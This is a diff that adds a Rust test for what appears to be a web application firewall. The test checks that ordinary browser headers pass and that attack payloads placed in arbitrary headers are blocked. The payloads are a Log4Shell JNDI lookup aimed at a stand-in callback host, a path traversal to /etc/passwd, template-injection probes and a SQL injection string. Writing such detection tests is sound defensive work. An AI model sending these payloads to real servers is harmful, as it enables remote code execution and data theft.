@@ -222,3 +222,44 @@ fn equal_confidences_rank_by_specificity() {
     ranks.dedup();
     assert_eq!(ranks.len(), Category::ALL.len());
 }
+
+#[test]
+fn every_header_is_inspected_by_its_grammar() {
+    let s = DetectionStage::new(&Settings::default()).unwrap();
+    let with = |headers: &[(&'static str, &'static str)]| {
+        let mut req = OwnedRequest::new(http::Method::GET, "/products/42");
+        for (n, v) in headers {
+            req.headers.append(http::HeaderName::from_static(n), http::HeaderValue::from_static(v));
+        }
+        s.check_head(&req.view(), &mut Context::default())
+    };
+    // A browser's headers, written for this test: allowed.
+    let browser = [
+        ("host", "shop.example.com"),
+        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
+        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+        ("accept-language", "fr-FR,fr;q=0.9,en;q=0.8"),
+        ("accept-encoding", "gzip, deflate, br, zstd"),
+        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\""),
+        ("sec-ch-ua-mobile", "?0"),
+        ("sec-ch-ua-platform", "\"macOS\""),
+        ("sec-fetch-site", "none"),
+        ("referer", "https://shop.example.com/search?q=red+shoes"),
+        ("cookie", "session=abc123; theme=dark"),
+        ("if-none-match", "W/\"5e15153d-120f\""),
+        ("x-requested-with", "XMLHttpRequest"),
+    ];
+    assert!(matches!(with(&browser), Verdict::Allow), "{:?}", with(&browser));
+    // Payloads in headers the defaults did not name, by name as received.
+    for (n, v, code) in [
+        ("content-type", "${jndi:ldap://callback.example/a}", "detect.log4shell"),
+        ("accept", "../../../../etc/passwd", "detect.path-traversal"),
+        ("x-custom-route", "{{7*7}}${7*7}<%= 7*7 %>", "detect.ssti"),
+        ("x-anything", "1' or '1'='1' -- ", "detect.sqli"),
+    ] {
+        let v = with(&[(n, v)]);
+        let Verdict::Block { reasons, .. } = &v else { panic!("{n}: {v:?}") };
+        assert_eq!(&*reasons[0].code, code, "{n}");
+        assert_eq!(reasons[0].location.as_deref(), Some(&*format!("header.{n}")), "{n}");
+    }
+}
